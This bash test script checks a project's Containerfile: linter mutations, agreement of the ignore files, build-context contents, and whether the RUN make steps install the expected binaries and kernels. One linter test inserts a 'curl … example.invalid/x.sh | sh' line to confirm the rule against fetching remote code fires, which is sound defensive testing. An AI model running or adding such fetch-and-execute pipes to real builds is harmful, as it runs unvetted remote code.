#!/usr/bin/env bash
# containers/Containerfile, checked as far as a machine without a container
# engine allows:
#   - containers/lint.sh passes on it, and catches each rule it claims to
#     check when the file is broken on purpose;
#   - .dockerignore and .containerignore agree, and the build context they
#     leave (computed here) has the sources and none of build/, bin/, .git;
#   - the Containerfile's own RUN make lines, run as written in a copy of
#     that context (DESTDIR added), install the ENTRYPOINT, tttd-fanout and
#     the kernels the image links to /work/kernels; the installed pipeline
#     answers --help and accepts every option of the default CMD.
set -euo pipefail
top=${TTTD_TOP:-$(cd "$(dirname "$0")/../.." && pwd)}
cd "$top"
cf=containers/Containerfile
tmp=$(mktemp -d)
trap 'rm -rf "$tmp"' EXIT
fail=0
bad() { echo "FAIL: $*" >&2; fail=1; }

# 1. The linter: clean on the real file, and each rule fires on a broken copy.
containers/lint.sh "$cf" Makefile || bad "lint: $cf"
mutate() { # $1 = sed program, $2 = message the linter must print
	sed "$1" "$cf" >"$tmp/cf"
	if out=$(containers/lint.sh "$tmp/cf" Makefile); then
		bad "lint passed a Containerfile with: $2"
	else
		grep -q -- "$2" <<<"$out" || bad "lint: want '$2', got: $out"
	fi
}
mutate 's/apt-get update \\/true \\/' "without apt-get update in the same RUN"
mutate 's,rm -rf /var/lib/apt/lists/\*,true,' "without rm -rf /var/lib/apt/lists"
mutate 's/--no-install-recommends//' "without --no-install-recommends"
mutate 's/^RUN make /RUN curl -fsSL https:\/\/example.invalid\/x.sh | sh \&\& make /' "fetches remote code"
mutate 's/make clean/make tidy/' 'make target "tidy" is not in the Makefile'
mutate 's/^COPY . .$//' "make before the sources are COPY"
mutate 's,^ENTRYPOINT .*,ENTRYPOINT ["/usr/local/bin/tttd-nothing"],' "is not a file make install puts"
mutate 's,^ENTRYPOINT .*,ENTRYPOINT /usr/local/bin/tttd-discover,' "in shell form"
mutate 's,^FROM .*,FROM docker.io/nvidia/cuda,' "name an explicit tag"
mutate 's,^FROM .*,FROM docker.io/library/ubuntu:latest,' "name an explicit tag"
mutate 's,^ARG BASE=.*,ARG BASE=debian,' "name an explicit tag"
mutate 's,^ARG BASE=.*,ARG BASE,' "has no default before FROM"

# 2. The ignore files agree (comments aside) and leave a sane context.
cmp -s <(grep -v '^#' .dockerignore) <(grep -v '^#' .containerignore) || bad ".dockerignore and .containerignore differ"
# A .dockerignore pattern is anchored at the context root; ** spans folders.
regex=$(grep -v -e '^#' -e '^$' .dockerignore | sed 's/[.+]/\\&/g; s,\*\*/,@@,g; s/\*/[^\/]*/g; s,@@,(.*/)?,g' |
	paste -sd'|')
find . -path ./.git -prune -o -type f -print | sed 's,^\./,,' | grep -Ev "^($regex)(/|$)" | sort >"$tmp/context" || true
for want in Makefile lib/core/tttd.h tools/common/diag.c tools/tttd-bench.c pipelines/tttd-discover.sh pipelines/tttd-fanout.sh \
	kernels/gemm/task man/tttd-bench.1 tests/deps.sh; do
	grep -qx "$want" "$tmp/context" || bad "context lacks $want"
done
grep -E '^(build|bin|runs|run|inst|\.git|tests/out)/' "$tmp/context" | head -n 3 | sed 's/^/context has: /' | grep . >&2 &&
	bad "context has build outputs or git"
# A user's run/ (the README's by-hand example) and inst/ (a local install) stay out.
for p in run/steps/000000.mp inst/usr/local/bin/tttd-bench runs/x/config build/lib/core/a.o; do
	grep -Eq "^($regex)(/|$)" <<<"$p" || bad "the ignore files let $p into the context"
done

# 3. The Containerfile's build steps, through the same make targets.  The
# copy starts from this checkout's objects (make rebuilds what is stale) so
# the test stays fast; the image builds from scratch.
ctx=$tmp/ctx root=$tmp/root
mkdir -p "$ctx" "$root"
tar -cf - -T "$tmp/context" | tar -xf - -C "$ctx"
[ -d build ] && cp -a build "$ctx/build"
grep -E '^RUN make ' "$cf" | sed 's/^RUN //' >"$tmp/steps"
[ -s "$tmp/steps" ] || bad "no RUN make line in $cf"
(
	cd "$ctx"
	make() { command make -s DESTDIR="$root" "$@"; }
	# The build ARGs at their defaults, as a plain build would see them.
	while IFS='=' read -r name value; do
		declare "$name=$value"
	done < <(sed -n 's/^ARG \([A-Za-z_][A-Za-z0-9_]*\)=\(.*\)/\1=\2/p' "$top/$cf")
	while read -r step; do
		echo "container step: $step" >&2
		eval "$step" >/dev/null
	done <"$tmp/steps"
) || bad "the Containerfile's make steps failed"
prefix=$root/usr/local
[ ! -d "$ctx/build" ] || bad "make clean left build/"
entry=$(sed -n 's/^ENTRYPOINT \["\([^"]*\)".*/\1/p' "$cf")
for f in "$entry" /usr/local/bin/tttd-fanout /usr/local/bin/tttd-bench; do
	[ -x "$root$f" ] || bad "not installed: $f"
done
[ -f "$prefix/share/tttd/kernels/gemm/task" ] && [ -f "$prefix/share/tttd/kernels/matmul/task" ] ||
	bad "kernels not at /usr/local/share/tttd/kernels"
# The installed pipeline runs, and knows every option of the default CMD.
discover=$root$entry
help=$("$discover" --help) || bad "$entry --help"
for o in $(sed -n 's/^CMD \[\(.*\)\]/[\1]/p' "$cf" | jq -r '.[] | select(startswith("--"))'); do
	grep -q -- "$o" <<<"$help" || bad "CMD option $o unknown to $entry"
done
[ "$("$prefix/bin/tttd-bench" --version)" = "tttd-bench 0.1.0" ] || bad "installed tttd-bench does not run"
exit $fail
